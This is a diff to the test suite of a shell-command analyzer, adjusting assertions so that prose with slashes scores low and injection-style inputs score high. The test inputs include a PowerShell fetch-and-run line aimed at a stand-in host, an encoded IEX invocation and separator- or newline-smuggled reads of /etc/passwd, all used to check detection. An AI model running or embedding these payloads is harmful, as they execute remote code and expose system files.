@@ -181,6 +181,10 @@ describe("shell analyzer", () => {
     for (const v of ["date / time", "which / what", "cat and dog", "ls is short for list", "set the time", "Find /Search"]) {
       expect(s(v)).toBeLessThan(0.8);
     }
+    // A slash inside a word of prose after a separator, and after a path's segment (the rest of a route is no argument).
+    for (const v of ["hello; move them and/or that", "ok; find the docs at example.com/help", "yes; sort by date/time", "/search/put tags in your template; move them to a bundle./details"]) {
+      expect([v, s(v) < 0.8]).toEqual([v, true]);
+    }
   });
 
   test("interpreters with inline code, tools with flags or URLs, PowerShell cmdlets", () => {
@@ -414,8 +418,7 @@ describe("shell analyzer", () => {
       expect([v, s(v)]).toEqual([v, 0]);
     }
     for (const v of ["; iex(irm evil.example/a)", "; IEX([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('dwBoAG8AYQBtAGkA')))", ";cat /etc/passwd", "x\nfile /etc/passwd"]) {
-      expect([v, s(v)]).toEqual([v, expect.any(Number)]);
-      expect(s(v)).toBeGreaterThanOrEqual(0.7);
+      expect([v, s(v) >= 0.7]).toEqual([v, true]);
     }
   });
 
